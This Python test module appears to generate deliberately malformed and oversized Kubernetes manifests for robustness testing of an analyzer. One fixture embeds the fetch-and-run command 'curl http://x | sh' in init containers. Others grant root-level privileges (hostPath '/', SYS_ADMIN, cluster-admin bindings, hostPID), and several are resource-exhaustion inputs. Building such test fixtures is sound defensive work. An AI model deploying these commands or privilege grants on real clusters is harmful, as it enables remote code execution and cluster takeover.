# ruff: noqa: UP031
"""Manifests: objects of every kind with values that nobody writes."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.attack import HEAD, POD, TOLD, Attack, Files, Parts


def in_process() -> Iterator[Attack]:
    kinds = (
        "RoleBinding",
        "ClusterRoleBinding",
        "Service",
        "Deployment",
        "Ingress",
        "CronJob",
        "HelmRelease",
    )
    yield Attack(
        "kubernetes-groups",
        lambda: {
            "bad.yaml": "---\n".join(
                f"apiVersion: {group}\nkind: {kind}\nmetadata: {{name: tiller}}\nroleRef: {{name: tiller}}\n"
                for kind in kinds
                for group in ("..", "x/v1", "5", "[]", "{}", "", "a/b/c")
            )
        },
    )
    yield Attack(
        "kubernetes-names",
        lambda: {
            "bad.yaml": "---\n".join(
                "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {name: w}\n"
                f"spec: {{templates: [{{name: {name}, container: {{name: {name}, image: a}}, "
                f"script: {{name: {name}}}, sidecars: [{{name: {name}}}], containerSet: {{containers: [{{name: {name}}}]}}}}]}}\n"
                for name in ("[]", "{}", "5", "null", "''", "[x]", "{a: b}", "!x y", ".nan")
            )
        },
    )


def by_command() -> Parts:
    def pod(rest: str) -> Files:
        return {"bad.yaml": POD + rest}

    numbers = [
        "1e400Gi",
        "-1",
        "0",
        ".5",
        "1e-400",
        "9" * 4_000 + "Ei",
        "1E",
        "0x10",
        "١٢",
        "1m1m",
        "NaN",
        "1e+99999999999",
        "+-1",
        "1_000",
    ]
    yield (
        "quantities",
        pod(
            "      resources:\n        limits:\n"
            + "".join(f"          r{n}: '{v}'\n" for n, v in enumerate(numbers))
            + f"          nvidia.com/gpu: '{numbers[5]}'\n          memory: '1e400Gi'\n          cpu: '1e-400'\n"
        ),
    )
    yield (
        "quantities-of-devices",
        pod(
            "      resources: {limits: {nvidia.com/gpu: 1e9, amd.com/gpu: 99999999999999999999}, requests: {nvidia.com/gpu: -1e9}}\n"
        ),
    )
    yield (
        "replicas",
        {
            "bad.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d}\nspec: {replicas: 1"
            + "0" * 5_000
            + ", template: {spec: {containers: [{name: c, image: a, resources: {limits: {nvidia.com/gpu: 8}}}]}}}\n"
        },
    )
    yield (
        "launcher-numbers",
        pod(
            "      command: [torchrun, --nproc-per-node=1"
            + "0" * 5_000
            + ", --nnodes=1e9:1e99, --tensor-parallel-size=-0x1, train.py]\n      resources: {limits: {nvidia.com/gpu: 8}}\n"
        ),
    )
    yield "launcher-nested", pod('      command: [bash, -c, "' + "bash -c '" * 5_000 + "torchrun x" + '"]\n')
    yield (
        "launcher-args",
        pod(
            "      command: [python, -m, vllm.entrypoints.openai.api_server]\n      args: ["
            + "--model=a, --tensor-parallel-size=2, " * 20_000
            + "]\n"
        ),
    )
    yield (
        "json-in-annotation",
        {
            "bad.yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  annotations:\n    kubectl.kubernetes.io/last-applied-configuration: '"
            + '{"a":' * 50_000
            + "'\n    k8s.v1.cni.cncf.io/networks: '"
            + "[" * 200_000
            + "'\nspec: {containers: []}\n"
        },
    )
    yield (
        "configmap-of-manifests",
        {
            "bad.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n"
            + "".join(
                f"  f{n}.yaml: |\n" + "".join(f"    {line}\n" for line in POD.splitlines())
                for n in range(4_000)
            )
        },
    )
    yield (
        "configmap-of-dockerfiles",
        {
            "bad.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n"
            + "".join(f"  Dockerfile{n}: |\n    FROM a:latest\n    USER root\n" for n in range(6_000))
        },
    )
    yield (
        "configmap-of-json",
        {
            "bad.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  a.json: '"
            + '{"a": 1}' * 200_000
            + "'\n  b.json: '"
            + "[" * 300_000
            + "'\n"
        },
    )
    yield (
        "secret-of-everything",
        {
            "bad.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: c}\ndata:\n"
            + "".join(f"  k{n}: cGFzc3dvcmQxMjM0NTY3ODk=\n" for n in range(15_000))
        },
    )
    yield (
        "affinity-terms",
        pod(
            "  affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: ["
            + "{matchExpressions: [{key: a, operator: In, values: [b]}]}, " * 15_000
            + "]}}}\n"
        ),
    )
    yield (
        "tolerations-and-keys",
        pod(
            "  tolerations: ["
            + ", ".join("{key: k%d, operator: Exists}" % n for n in range(20_000))
            + "]\n  nodeSelector: {"
            + ", ".join("a%d: b" % n for n in range(20_000))
            + "}\n"
        ),
    )
    yield (
        "capabilities",
        pod(
            "      securityContext: {capabilities: {add: ["
            + "SYS_ADMIN, " * 60_000
            + "], drop: ["
            + "ALL, " * 60_000
            + "]}}\n"
        ),
    )
    yield (
        "env-references",
        pod(
            "      env:\n"
            + "".join(f"      - {{name: A{n}, value: '{'$(A%d)' % (n - 1) * 3}'}}\n" for n in range(8_000))
        ),
    )
    yield (
        "env-from",
        pod("      envFrom: [" + "{configMapRef: {name: a}}, {secretRef: {name: b}}, " * 20_000 + "]\n"),
    )
    yield (
        "volumes-of-one-name",
        pod(
            "      volumeMounts: ["
            + "{name: v, mountPath: /m}, " * 15_000
            + "]\n  volumes: ["
            + "{name: v, hostPath: {path: /}}, " * 15_000
            + "]\n"
        ),
    )
    yield (
        "init-containers",
        pod(
            "  initContainers:\n"
            + "  - {name: i, image: 'a:latest', command: [sh, -c, 'curl http://x | sh']}\n" * 8_000
        ),
    )
    yield (
        "probes",
        {
            "bad.yaml": HEAD
            + "spec:\n  containers:\n"
            + "".join(
                f"  - {{name: c{n}, image: a, ports: [{{containerPort: {n}}}], livenessProbe: {{httpGet: {{port: {n + 1}}}}}}}\n"
                for n in range(6_000)
            )
        },
    )
    yield (
        "pods-and-services-in-a-file",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: v1\nkind: Service\nmetadata: {{name: s{n}}}\nspec: {{selector: {{app: x{n}}}, ports: [{{port: 80}}]}}\n---\n{POD.replace('{name: p}', f'{{name: p{n}, labels: {{app: y{n}}}}}')}"
                for n in range(4_000)
            )
        },
    )
    yield (
        "bindings-and-pods-in-a-file",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: b{n}}}\nroleRef: {{kind: Role, name: r}}\nsubjects: [{{kind: ServiceAccount, name: a{n}}}]\n---\n{POD}  serviceAccountName: x{n}\n".replace(
                    "name: p}", f"name: p{n}}}"
                )
                for n in range(4_000)
            )
        },
    )
    yield (
        "roles-wide",
        {
            "bad.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\nrules: [{apiGroups: ["
            + "'*', " * 50_000
            + "], resources: ["
            + "pods, secrets, " * 50_000
            + "], verbs: ["
            + "create, get, " * 50_000
            + "]}]\n"
        },
    )
    yield (
        "webhooks",
        {
            "bad.yaml": "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: {name: w}\nwebhooks:\n"
            + "- {name: a, failurePolicy: Ignore, rules: [{apiGroups: ['*'], resources: ['*']}]}\n" * 15_000
        },
    )
    yield (
        "crd-schema",
        {
            "bad.yaml": "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: c}\nspec: {versions: [{schema: {openAPIV3Schema: "
            + "{properties: {spec: " * 60
            + "{}"
            + "}}" * 60
            + "}}]}\n"
        },
    )
    yield (
        "crd-of-kind",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: example.org/v1\nkind: Thing{n}\nmetadata: {{name: t}}\nspec: {{template: {{spec: {{containers: [{{name: c, image: a}}]}}}}}}\n"
                for n in range(5_000)
            )
        },
    )
    yield (
        "ray-cluster",
        {
            "bad.yaml": "apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {name: r}\nspec: {headGroupSpec: {template: {spec: {containers: [{name: c, image: a}]}}}, workerGroupSpecs: ["
            + "{groupName: g, replicas: 1, maxReplicas: 9999999999999, template: {spec: {containers: [{name: c, image: a, resources: {limits: {nvidia.com/gpu: 8}}}]}}}, "
            * 3_000
            + "]}\n"
        },
    )
    yield (
        "argo-workflow",
        {
            "bad.yaml": "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {name: w}\nspec: {entrypoint: t0, podSpecPatch: '"
            + '{"containers":' * 2_000
            + "', templates: ["
            + "".join(
                f"{{name: t{n}, dag: {{tasks: [{{name: a, template: t{n + 1}}}]}}}}, " for n in range(4_000)
            )
            + "]}\n"
        },
    )
    yield (
        "jobset",
        {
            "bad.yaml": "apiVersion: jobset.x-k8s.io/v1alpha2\nkind: JobSet\nmetadata: {name: j}\nspec: {replicatedJobs: ["
            + "".join(
                f"{{name: a{n}, replicas: 999999999, template: {{spec: {{parallelism: 999999999, template: {{spec: {{containers: [{{name: c, image: a}}]}}}}}}}}}}, "
                for n in range(2_000)
            )
            + "]}\n"
        },
    )
    yield "custom-names", {"bad.yaml": POD.replace("name: p", "name: '" + "a/b#c[0]." * 50_000 + "'")}
    yield (
        "kind-of-everything",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: v1\nkind: {kind}\nmetadata: {{name: a}}\nspec: [[1, 2], {{a: b}}, null]\nstatus: []\n"
                for kind in [
                    "Pod",
                    "Deployment",
                    "Service",
                    "Job",
                    "CronJob",
                    "StatefulSet",
                    "DaemonSet",
                    "Ingress",
                    "NetworkPolicy",
                    "Role",
                    "ClusterRole",
                    "ConfigMap",
                    "Secret",
                    "List",
                    "Namespace",
                ]
            )
        },
    )
    yield (
        "list-of-itself",
        {"bad.yaml": "apiVersion: v1\nkind: List\nitems: &i [{apiVersion: v1, kind: List, items: *i}]\n"},
        TOLD,
    )
    yield (
        "list-huge",
        {
            "bad.yaml": "apiVersion: v1\nkind: List\nitems:\n"
            + "- {apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {hostPID: true, containers: [{name: c, image: a}]}}\n"
            * 15_000
        },
    )
    pods = "---\n".join(
        f"apiVersion: v1\nkind: Pod\nmetadata: {{name: p{n}, namespace: x, labels: {{a: w{n}}}}}\n"
        f"spec: {{serviceAccountName: s{n}, containers: [{{name: c, image: a}}]}}\n"
        for n in range(4_000)
    )
    yield (
        "containers-and-volumes-in-memory",
        {
            "bad.yaml": HEAD
            + "spec:\n  containers:\n"
            + "".join(
                f"  - {{name: c{n}, image: a, volumeMounts: [{{name: v{n}, mountPath: /dev/shm}}]}}\n"
                for n in range(5_000)
            )
            + "  volumes:\n"
            + "".join(f"  - {{name: v{n}, emptyDir: {{medium: Memory}}}}\n" for n in range(5_000))
        },
    )
    yield (
        "ports-of-many-names",
        pod(
            "      ports:\n" + "".join(f"      - {{name: n{n}, containerPort: {n}}}\n" for n in range(40_000))
        ),
    )
    nested = "accelerate launch torchrun deepspeed mpirun " * 20_000
    yield "launchers-in-a-row", pod(f'      command: [bash, -c, "{nested}x"]\n')
    yield (
        "claims-of-devices",
        {
            "bad.yaml": "---\n".join(
                f"apiVersion: v1\nkind: Pod\nmetadata: {{name: p{n}}}\nspec: {{resourceClaims: "
                f"[{{name: a, resourceClaimTemplateName: o{n}}}], containers: [{{name: c, image: a}}]}}\n"
                for n in range(5_000)
            )
        },
    )
    yield (
        "policy-of-many-values",
        {
            "bad.yaml": "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: n, namespace: x}\n"
            "spec: {podSelector: {matchExpressions: [{key: a, operator: In, values: ["
            + "".join(f"v{n}, " for n in range(300_000))
            + "]}]}, policyTypes: [Ingress]}\n",
            "pods.yaml": pods,
        },
    )
    yield (
        "bindings-of-many-subjects",
        {
            "bad.yaml": "---\n".join(
                f"apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {{name: b{n}}}\n"
                "roleRef: {kind: ClusterRole, name: cluster-admin, apiGroup: rbac.authorization.k8s.io}\nsubjects:\n"
                + "".join(f"- {{kind: ServiceAccount, name: s{k}, namespace: x}}\n" for k in range(8_000))
                for n in range(10)
            ),
            "pods.yaml": pods,
        },
    )
    digits = "9" * 5_000
    yield (
        "pod-long-versions",
        {"bad.yaml": POD.replace("registry.example.org/app:1.0", f"vllm/vllm-openai:v{digits}.{digits}")},
    )
